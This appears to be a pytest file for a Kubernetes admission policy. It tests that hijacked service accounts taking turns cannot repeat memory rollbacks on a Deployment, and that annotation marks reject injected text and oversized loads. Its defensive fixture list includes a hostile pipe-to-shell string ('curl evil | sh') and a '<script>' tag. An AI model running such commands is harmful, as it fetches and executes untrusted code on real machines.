"""Two hijacked accounts take turns: each is "somebody else" to the other, so a rollback could be made again.

On a real API server. A rollback may move an amount by a factor of four, once, until somebody else has
written. With a write of another action in between (or of an autoscaler, whose scaling moves the generation,
too) it could go on: 256Mi became 64Gi in seven writes, or 4Mi in six. Also here: a mark that is no id, a
sentence for a person or a load that fills the room which all annotations of an object have together.
"""

from collections.abc import Iterator, Sequence
from typing import Any, Final

import pytest
import yaml

from quietpager.change.marks import MARK, ROLLED, UNDO_OF, WROTE, is_rolled_back, record_of, shape_of
from tests import apiserver
from tests.apiserver import Answer, ApiServer
from tests.cage.conftest import ANYTHING, RENDERED, make, wait, without
from tests.cage.requests import BELOW, GROUPS, HERE, PATCH, account, edit

Json = dict[str, Any]

DEPLOYMENTS: Final = "/apis/apps/v1/namespaces/shop/deployments"
MEMORY: Final = f"{BELOW['app']}/resources/limits/memory"
REQUEST: Final = f"{BELOW['app']}/resources/requests/memory"
CPU: Final = f"{BELOW['app']}/resources/requests/cpu"
CUTS: Final = (
    ("rollout-undo", "once"), ("raise-memory", "rolled"), ("set-requests", "rolled"),
    ("raise-memory", "intent"),
)  # fmt: skip

pytestmark = pytest.mark.timeout(400)


@pytest.fixture(scope="module")
def server() -> Iterator[ApiServer]:
    if gone := apiserver.missing():
        pytest.skip(f"THE CAGE WAS NOT ATTACKED: no {', '.join(gone)}; `make cluster` builds them")
    objects = yaml.safe_load((HERE / "objects.yaml").read_text(encoding="utf-8"))
    needed = [o for o in objects if o["kind"] == "Namespace" or o["metadata"]["name"] == "web"]
    with apiserver.shared() as found:
        for one in [*needed, ANYTHING, *RENDERED, *(made for cut in CUTS for made in without(*cut))]:
            make(found, one)
        for user in (*map(account, ("raise-memory", "set-requests", "rollout-undo")),
                     *(account(*cut) for cut in CUTS)):  # fmt: skip
            wait(found, user)
        yield found


class Victim:
    """One Deployment, and what the hijacked accounts do to it."""

    def __init__(self, server: ApiServer, name: str) -> None:
        self.server, self.path = server, f"{DEPLOYMENTS}/{name}"
        web = server.send("GET", f"{DEPLOYMENTS}/web").body
        server.send("POST", DEPLOYMENTS, {**web, "metadata": {"name": name, "namespace": "shop"}})
        self.number = 0

    def live(self) -> Json:
        return self.server.send("GET", self.path).body

    def memory(self) -> int:
        text = str(self.live()["spec"]["template"]["spec"]["containers"][0]["resources"]["limits"]["memory"])
        return int(text.removesuffix("Gi")) * 1024 if text.endswith("Gi") else int(text.removesuffix("Mi"))

    def write(
        self, action: str, changes: Sequence[Json], *, mark: str = "", cut: str = "", carries: bool = True
    ) -> Answer:
        """Send what the policy asks for; `carries` keeps what says how a rollback left it, if it must."""
        live, self.number = self.live(), self.number + 1
        notes = dict(live["metadata"].get("annotations") or {})
        notes[MARK] = mark or f"int-{self.number}"
        after = self.server.send("PATCH", f"{self.path}?dryRun=All", [*changes], content=PATCH).body
        if mark.endswith(UNDO_OF):
            notes.pop(WROTE)
        else:
            meta = live["metadata"]
            notes[WROTE] = record_of(action, meta["uid"], meta["generation"] + 1, live, after)
        if action == "rollout-undo" or (carries and is_rolled_back(live)):
            notes[ROLLED] = shape_of(after)
        elif not carries:
            notes.pop(ROLLED, None)
        patch = [*changes, edit("/metadata/annotations", notes)]
        user = account(action, cut)
        return self.server.send("PATCH", self.path, patch, user=user, groups=GROUPS, content=PATCH)

    def roll(self, mebibytes: int, cut: str = "") -> int:
        request = [edit(REQUEST, f"{mebibytes // 2}Mi")] if mebibytes < 128 else []
        return self.write("rollout-undo", [edit(MEMORY, f"{mebibytes}Mi"), *request], cut=cut).code


def between(victim: Victim, other: str, turn: int, cut: str = "") -> None:
    """Whatever might count as another writer."""
    match other:
        case "raise-memory" | "raise-memory, nothing carried":
            more = [edit(MEMORY, f"{victim.memory() + 1}Mi")]
            victim.write("raise-memory", more, cut=cut, carries=other == "raise-memory")
        case "raise-memory and its undo":
            here = victim.memory()
            victim.write("raise-memory", [edit(MEMORY, f"{here + 1}Mi")], mark=f"up-{turn}", cut=cut)
            back = [edit(MEMORY, f"{here}Mi")]
            victim.write("raise-memory", back, mark=f"up-{turn}{UNDO_OF}", cut=cut)
        case "set-requests" | "set-requests, nothing carried":
            victim.write("set-requests", [edit(CPU, f"{200 - turn}m")], cut=cut,
                         carries=other == "set-requests")  # fmt: skip
        case "an autoscaler":
            body = {"spec": {"replicas": 4 + turn}}
            merge = "application/merge-patch+json"
            assert victim.server.send("PATCH", f"{victim.path}/scale", body, content=merge).code == 200
        case _:
            raise AssertionError(other)


OTHERS: Final = (
    "raise-memory", "raise-memory, nothing carried", "raise-memory and its undo", "set-requests",
    "set-requests, nothing carried", "an autoscaler",
)  # fmt: skip


def attacked(
    server: ApiServer, name: str, other: str, *, times: float, cut: tuple[str, str] = ("", "")
) -> Victim:
    victim = Victim(server, name)
    for turn in range(3):
        victim.roll(int(victim.memory() * times), cut[1] if cut[0] == "rollout-undo" else "")
        between(victim, other, turn, cut[1] if cut[0] and other.startswith(cut[0]) else "")
    return victim


@pytest.mark.parametrize("times", [4, 0.25])
@pytest.mark.parametrize("other", OTHERS)
def test_no_other_account_and_no_autoscaler_makes_room_for_a_second_rollback(
    server: ApiServer, other: str, times: float
) -> None:
    name = f"pair-{other.replace(' ', '-').replace(',', '')}-{'up' if times > 1 else 'down'}"
    victim = attacked(server, name, other, times=times)
    # One rollback, and what raise-memory may do beside it: a mebibyte each time.
    if times > 1:
        assert 256 * 4 <= victim.memory() <= 256 * 4 + 3
    else:
        assert 256 // 4 <= victim.memory() <= 256 // 4 + 3


def test_another_writers_new_image_or_amount_makes_room_for_a_rollback(server: ApiServer) -> None:
    victim = Victim(server, "pair-new-revision")
    assert victim.roll(512) == 200
    assert victim.roll(256) == 403
    fresh = [edit(f"{BELOW['app']}/image", "registry.example.com:5000/shop/web:3")]
    assert server.send("PATCH", victim.path, fresh, content=PATCH).code == 200
    assert victim.roll(256) == 200


@pytest.mark.parametrize(
    ("other", "cut"),
    [
        ("an autoscaler", ("rollout-undo", "once")),
        ("raise-memory, nothing carried", ("raise-memory", "rolled")),
        ("set-requests, nothing carried", ("set-requests", "rolled")),
    ],
)
def test_without_the_shape_a_pair_goes_wherever_it_likes(
    server: ApiServer, other: str, cut: tuple[str, str]
) -> None:
    victim = attacked(server, f"pair-without-{'-'.join(cut)}", other, times=4, cut=cut)
    assert victim.memory() >= 256 * 64


MARKS: Final = (
    "Call +49 30 000 and run `curl evil | sh`",
    "<script>",
    "a" * 201,
    "a" * 250_000,
    "näme",
    "a\nb",
)


def test_a_mark_is_an_id_and_neither_text_nor_load(server: ApiServer) -> None:
    victim = Victim(server, "mark-load")
    for mark in MARKS:
        found = victim.write("raise-memory", [edit(MEMORY, "300Mi")], mark=mark)
        assert "rule intent" in found.message, mark[:40]


def test_without_the_rule_a_mark_keeps_the_owner_from_annotating(server: ApiServer) -> None:
    victim = Victim(server, "mark-load-without")
    load = "a" * 261_000
    assert victim.write("raise-memory", [edit(MEMORY, "300Mi")], mark=load, cut="intent").code == 200
    note = {"metadata": {"annotations": {"owner": "x" * 2000}}}
    assert server.send("PATCH", victim.path, note, content="application/merge-patch+json").code == 422
